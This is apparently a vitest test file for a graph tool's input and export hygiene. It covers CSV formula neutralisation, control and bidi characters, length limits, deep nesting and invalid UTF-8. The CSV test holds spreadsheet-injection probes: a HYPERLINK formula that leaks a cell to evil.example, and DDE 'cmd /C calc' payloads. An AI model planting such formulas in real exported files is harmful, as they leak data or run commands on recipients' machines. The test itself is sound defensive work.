/**
 * Input and export hygiene (issue 13, item 6): each probe below was once answered wrongly. The
 * GraphQL probes go to the real server process; the file probes (bytes a GraphQL string cannot
 * carry, such as invalid UTF-8) go through the real import path, `importFiles` on files on disk,
 * into an embedded store in a temporary folder, as the `redstring import` command does.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GrafeoEngine } from '../../server/engine/grafeo-engine.ts';
import { importFiles } from '../../server/formats/import-file.ts';
import { GraphStore } from '../../server/store/graph-store.ts';
import { graphqlClient } from '../support/graphql.ts';
import { startServer, stopServer, type ServerProcess } from '../support/server-process.ts';

let server: ServerProcess;
const folders: string[] = [];

function folder(): string {
  const dir = mkdtempSync(join(tmpdir(), 'redstring-input-'));
  folders.push(dir);
  return dir;
}

beforeAll(async () => {
  server = await startServer(folder());
}, 60_000);

afterAll(async () => {
  await stopServer(server, 'SIGTERM');
  for (const dir of folders) rmSync(dir, { recursive: true, force: true });
});

const gql = () => graphqlClient((request) => fetch(request), `${server.url}/graphql`);

const UPSERT = 'mutation($input: EntityInput!) { upsertEntity(input: $input) { id name } }';
const IMPORT = `mutation($content: String!, $fileName: String, $format: GraphFormat) {
  importFile(content: $content, fileName: $fileName, format: $format) { entities { created } }
}`;

/** Imports files from disk into a fresh embedded store; what it threw, and what the store holds. */
async function importFromDisk(files: Record<string, string | Buffer>) {
  const dir = folder();
  const paths = Object.entries(files).map(([name, content]) => {
    const path = join(dir, name);
    writeFileSync(path, content);
    return { path };
  });
  const store = await GraphStore.open(GrafeoEngine.open({ dataDir: join(dir, 'data') }));
  try {
    const error = await importFiles(store, paths).then(
      () => null,
      (e: unknown) => (e instanceof Error ? e.message : String(e)),
    );
    const { entityCount } = await store.summary();
    return { error, entityCount };
  } finally {
    await store.close();
  }
}

describe('CSV export', () => {
  const cells = {
    hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    sum: "@SUM(1+1)*cmd|' /C calc'!A0",
    cmd: "+cmd|' /C calc'!A0",
    dash: "-2+3+cmd|' /C calc'!A0",
    quoted: "'=already quoted",
  };

  it('neutralises formula cells, keeps numbers numbers, and reads its own export back unchanged', async () => {
    const client = gql();
    const written = Object.entries(cells).map(([key, name]) => ({
      id: `formula-${key}`,
      type: 'Person',
      name,
      aliases: [`@alias-${key}`],
      description: `-- a note on ${key}`,
      properties: { balance: -3.5, note: `=1+${key.length}` },
    }));
    for (const input of written) {
      const result = await client.post(UPSERT, { input });
      expect(result.errors).toEqual([]);
    }
    const { exportGraph } = await client.data<{
      exportGraph: { files: { fileName: string; content: string }[] };
    }>('query($ids: [ID!]) { exportGraph(format: CSV, ids: $ids) { files { fileName content } } }', {
      ids: written.map((e) => e.id),
    });
    const entities = exportGraph.files.find((f) => f.fileName === 'entities.csv')!.content;
    const rows = parse(entities, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(written.length);
    for (const row of rows) {
      // Every cell a spreadsheet would run is text now; a number is left a number.
      for (const [column, value] of Object.entries(row))
        expect(/^[=+\-@\t\r]/.test(value) && column !== 'balance:double', `${column}: ${value}`).toBe(false);
      expect(row['balance:double']).toBe('-3.5');
    }
    expect(rows.find((r) => r.id === 'formula-hyperlink')!.name).toBe(`'${cells.hyperlink}`);
    expect(rows.find((r) => r.id === 'formula-quoted')!.name).toBe(`''=already quoted`);

    // The round trip: the export read back gives the values written, -3.5 a number again.
    const dir = folder();
    writeFileSync(join(dir, 'entities.csv'), entities);
    const store = await GraphStore.open(GrafeoEngine.open({ dataDir: join(dir, 'data') }));
    try {
      await importFiles(store, [{ path: join(dir, 'entities.csv') }]);
      const back = await store.getEntities(written.map((e) => e.id));
      expect(
        back.map(
          (e) =>
            e && { name: e.name, aliases: e.aliases, description: e.description, properties: e.properties },
        ),
      ).toEqual(
        written.map((e) => ({
          name: e.name,
          aliases: e.aliases,
          description: e.description,
          properties: e.properties,
        })),
      );
    } finally {
      await store.close();
    }
  }, 60_000);
});

describe('control characters', () => {
  it('are refused in names, aliases and titles by upsert, naming the field and the character', async () => {
    const client = gql();
    const probes = [
      { name: 'Nul\u0000Name', field: 'name', shown: 'U+0000 (NUL)' },
      { name: 'Bell\u0007', field: 'name', shown: 'U+0007 (BEL)' },
      { name: 'Esc\u001b[31mRed', field: 'name', shown: 'U+001B' },
      { name: 'Ivan\u202Evon', field: 'name', shown: 'U+202E (RIGHT-TO-LEFT OVERRIDE)' },
      { name: 'Isolated\u2066name\u2069', field: 'name', shown: 'U+2066 (LEFT-TO-RIGHT ISOLATE)' },
    ];
    for (const probe of probes) {
      const result = await client.post(UPSERT, {
        input: { id: 'control-probe', type: 'Person', name: probe.name },
      });
      expect(result.errors).toHaveLength(1);
      expect(result.errors[0]!.message).toContain(probe.field);
      expect(result.errors[0]!.message).toContain(probe.shown);
    }
    const alias = await client.post(UPSERT, {
      input: { id: 'control-probe', type: 'Person', name: 'Fine', aliases: ['ok', 'bad\u202E'] },
    });
    expect(alias.errors[0]?.message).toMatch(/input\.aliases\.1: contains the bidirectional control U\+202E/);
    const source = await client.post(
      'mutation($input: SourceInput!) { upsertSource(input: $input) { id } }',
      {
        input: { id: 'control-source', title: 'Report\u0000' },
      },
    );
    expect(source.errors[0]?.message).toMatch(/title/);
    // Nothing of it was stored.
    const { entity } = await client.data<{ entity: unknown }>('{ entity(id: "control-probe") { id } }');
    expect(entity).toBeNull();
  }, 60_000);

  it('are kept where they are text: tab and line breaks anywhere, bidi controls in descriptions', async () => {
    const result = await gql().post(UPSERT, {
      input: {
        id: 'control-text',
        type: 'Person',
        name: 'Tab\there',
        description: 'First line\r\nsecond, quoting \u2067عربي\u2069 as written',
      },
    });
    expect(result.errors).toEqual([]);
    const refused = await gql().post(UPSERT, {
      input: { id: 'control-text', type: 'Person', name: 'Fine', description: 'escape \u001b[2J' },
    });
    expect(refused.errors[0]?.message).toMatch(/description.*U\+001B/s);
  }, 60_000);

  it('are refused by an import with the file, the line and the field, and nothing is written', async () => {
    const csv = ['id,name,type', 'a,Alice,Person', 'b,Bad\u0007Bob,Person', 'c,Carol,Person'].join('\n');
    const result = await gql().post(IMPORT, { content: csv, fileName: 'people.csv' });
    expect(result.errors[0]?.message).toMatch(/people\.csv: line 3, field name: .*U\+0007 \(BEL\)/);
    const ftm = `{"id":"x1","schema":"Person","properties":{"name":["Ivan\u202Evon"]}}\n`;
    const ftmResult = await gql().post(IMPORT, { content: ftm, fileName: 'people.ijson' });
    expect(ftmResult.errors[0]?.message).toMatch(/people\.ijson: line 1, field name: .*U\+202E/);
    const badId = ['id,name', 'ok\u0000id,Fine'].join('\n');
    const idResult = await gql().post(IMPORT, { content: badId, fileName: 'ids.csv' });
    expect(idResult.errors[0]?.message).toMatch(/ids\.csv: line 2, field id: the id contains .*U\+0000/);
    // Alice, on the line before the refused one, was not written either.
    const { entity } = await gql().data<{ entity: unknown }>('{ entity(id: "a") { id } }');
    expect(entity).toBeNull();
  }, 60_000);
});

describe('length rules', () => {
  it('are the same for import and upsert: a 1,001-character name is refused by both, with its line', async () => {
    const long = 'N'.repeat(1_001);
    const upsert = await gql().post(UPSERT, { input: { id: 'long-name', type: 'Person', name: long } });
    expect(upsert.errors[0]?.message).toMatch(/name/);
    const csv = `id,name\nshort,Short\nlong-name,${long}\n`;
    const imported = await gql().post(IMPORT, { content: csv, fileName: 'long.csv' });
    expect(imported.errors[0]?.message).toMatch(/long\.csv: line 3, field name: .*1000/);
    const graphml = `<?xml version="1.0"?><graphml><key id="n" for="node" attr.name="name" attr.type="string"/><graph edgedefault="directed"><node id="x"><data key="n">${long}</data></node></graph></graphml>`;
    const xml = await gql().post(IMPORT, { content: graphml, fileName: 'long.graphml' });
    expect(xml.errors[0]?.message).toMatch(/long\.graphml: .*line 1.*name/);
  }, 60_000);
});

describe('deep nesting', () => {
  const DEPTH = 100_000;
  const deep = `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`;

  it('in a .cyjs, .ijson, native JSON or CSV JSON cell gives a located error, not a stack overflow', async () => {
    const client = gql();
    const probes = [
      {
        fileName: 'deep.cyjs',
        format: 'CYTOSCAPE',
        content: `{"elements":{"nodes":[{"data":{"id":"a","x":\n${deep}}}]}}`,
        where: /deep\.cyjs: line 2, column \d+: nested deeper than 100 levels/,
      },
      {
        fileName: 'deep.ijson',
        format: 'FTM',
        content: `{"id":"ok","schema":"Person","properties":{"name":["Ok"]}}\n{"id":"x","schema":"Person","properties":{"name":${deep}}}\n`,
        where: /deep\.ijson: line 2, column \d+: nested deeper than 100 levels/,
      },
      {
        fileName: 'deep.json',
        format: 'JSON',
        content: `{"entities":[{"id":"a","type":"Person","name":"A","properties":{"x":${deep}}}]}`,
        where: /deep\.json: line 1, column \d+: nested deeper than 100 levels/,
      },
    ];
    for (const probe of probes) {
      const result = await client.post(IMPORT, probe);
      expect(result.errors, probe.fileName).toHaveLength(1);
      expect(result.errors[0]!.message).toMatch(probe.where);
      expect(result.errors[0]!.message).not.toMatch(/call stack/i);
    }
    // A JSON column in a CSV: refused where it is, too (its text is past the 10,000-character limit).
    const csv = `id,name,meta:json\na,A,"${deep}"\n`;
    const cell = await client.post(IMPORT, { content: csv, fileName: 'cells.csv' });
    expect(cell.errors[0]?.message).toMatch(/cells\.csv: line 2, field properties\.meta: /);
    expect(cell.errors[0]?.message).not.toMatch(/call stack/i);
  }, 120_000);

  it('in an XML format is refused with its line, without stalling', async () => {
    const depth = 100_000;
    const graphml = `<?xml version="1.0"?>\n<graphml><graph edgedefault="directed"><node id="a"/>\n${'<g>'.repeat(depth)}${'</g>'.repeat(depth)}</graph></graphml>`;
    const result = await gql().post(IMPORT, { content: graphml, fileName: 'deep.graphml' });
    expect(result.errors[0]?.message).toMatch(
      /deep\.graphml: line 3, column \d+: elements nested deeper than 256/,
    );
  }, 120_000);
});

describe('encodings', () => {
  it('refuses invalid UTF-8 in a CSV with its line, and names a conversion', async () => {
    const latin1 = Buffer.concat([
      Buffer.from('id,name\nzoe,Zoe\n'),
      Buffer.from('jose,Jos'),
      Buffer.from([0xe9]),
      Buffer.from('\n'),
    ]);
    const { error, entityCount } = await importFromDisk({ 'latin1.csv': latin1 });
    expect(error).toMatch(/latin1\.csv: line 3: not valid UTF-8 \(bytes 0xE9 0xA at offset 24\).*iconv/);
    expect(entityCount).toBe(0);
  }, 60_000);

  it('refuses invalid UTF-8 in every text format, and says what to do with UTF-16', async () => {
    const bad = Buffer.from([0xc3, 0x28]);
    const files: Record<string, Buffer> = {
      'bad.ijson': Buffer.concat([
        Buffer.from('{"id":"a","schema":"Person","properties":{"name":["'),
        bad,
        Buffer.from('"]}}\n'),
      ]),
      'bad.graphml': Buffer.concat([
        Buffer.from('<?xml version="1.0"?>\n<graphml><graph edgedefault="directed">\n<node id="'),
        bad,
        Buffer.from('"/></graph></graphml>\n'),
      ]),
      'bad.json': Buffer.concat([
        Buffer.from('{"entities":[{"id":"a","type":"Person","name":"'),
        bad,
        Buffer.from('"}]}'),
      ]),
    };
    for (const [name, content] of Object.entries(files)) {
      const { error } = await importFromDisk({ [name]: content });
      expect(error, name).toMatch(
        new RegExp(`${name.replace('.', '\\.')}: line \\d+: not valid UTF-8 \\(bytes 0xC3 0x28`),
      );
    }
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('id,name\na,A\n', 'utf16le')]);
    const { error } = await importFromDisk({ 'excel.csv': utf16 });
    expect(error).toMatch(/excel\.csv: line 1: the file is UTF-16 .*iconv -f UTF-16 -t UTF-8/);
  }, 60_000);
});
